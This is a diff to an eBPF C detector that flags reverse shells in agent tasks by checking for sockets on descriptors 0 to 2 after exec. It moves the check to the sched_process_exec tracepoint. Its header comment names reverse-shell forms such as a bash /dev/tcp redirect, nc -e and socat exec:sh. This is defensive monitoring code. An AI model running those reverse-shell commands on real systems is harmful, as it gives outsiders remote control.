@@ -4,8 +4,8 @@
  * Compiles on its own (test_ebpf_sources.py). A reverse shell is a program
  * whose stdin, stdout or stderr is a socket connected to a remote peer
  * (`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e`, socat tcp:H:P exec:sh with
- * fdin/fdout on the socket). At the end of a successful execve/execveat of
- * an agent task, with PC_CFG_STDIO_SOCKET, descriptors 0..2 are read from
+ * fdin/fdout on the socket). At every successful exec of an agent task
+ * (sched_process_exec), with PC_CFG_STDIO_SOCKET, descriptors 0..2 are read from
  * the kernel's file table (task->files->fdt->fd[i], layouts from BTF): a
  * socket inode (S_IFSOCK) whose sock is AF_INET/AF_INET6 with a non-zero,
  * non-loopback peer address is a violation, rule exec.stdio_socket: the
@@ -18,9 +18,7 @@
  * Limits (docs/network.md): a shell behind a pty or a socketpair relay
  * (python pty.spawn, socat pty) has no socket on 0..2 — the relay's own
  * connection is judged by the address policy, the scan limits and SSH
- * detection; 32-bit (compat) execve does not fire the syscall tracepoints
- * this uses (sched_process_exec would, but exec.c owns that tracepoint in
- * this build: merging the check there is a one-call change).
+ * detection.
  */
 
 #include "net.bpf.h"
@@ -68,10 +66,8 @@ static __always_inline u16 pc_stdio_peer(const void *fdarr, u32 fd, u8 *addr16, 
 	return family;
 }
 
-static __always_inline int pc_stdio_check(long ret)
+static __always_inline int pc_stdio_check(void)
 {
-	if (ret != 0)
-		return 0;   /* the exec failed: the old program goes on */
 	struct pc_config *cfg = pc_cfg();
 	if (!cfg || !(cfg->flags & PC_CFG_STDIO_SOCKET))
 		return 0;
@@ -106,20 +102,16 @@ static __always_inline int pc_stdio_check(long ret)
 	return 0;
 }
 
-/* Relies on: syscalls:sys_exit_execve(at) fire in the task's own context at
- * the end of the syscall, after the new image replaced the old one (ret 0)
- * and before the return to user mode, where a pending SIGKILL (queued by
+/* Relies on: sched_process_exec firing in the task's own context once the
+ * new image replaced the old one (every successful execve/execveat, native
+ * or 32-bit compat: no syscall tracepoint, which skips compat calls), before
+ * the return to user mode, where a pending SIGKILL (queued by
  * bpf_send_signal in pc_deny_verdict_kill) ends the task: the new program
  * never runs. The descriptors read are the ones it would start with
- * (close-on-exec ones are closed before this point). */
-TRACEPOINT_PROBE(syscalls, sys_exit_execve)
+ * (close-on-exec ones are closed in begin_new_exec, before this point). A raw
+ * tracepoint: exec.c holds the sched_process_exec tracepoint program. */
+RAW_TRACEPOINT_PROBE(sched_process_exec)
 {
-	return pc_stdio_check(args->ret);
-}
-
-/* Relies on: the same as sys_exit_execve, for execveat (fexecve). */
-TRACEPOINT_PROBE(syscalls, sys_exit_execveat)
-{
-	return pc_stdio_check(args->ret);
+	return pc_stdio_check();
 }
 #endif /* PC_HAVE_BTF_OFFSETS */
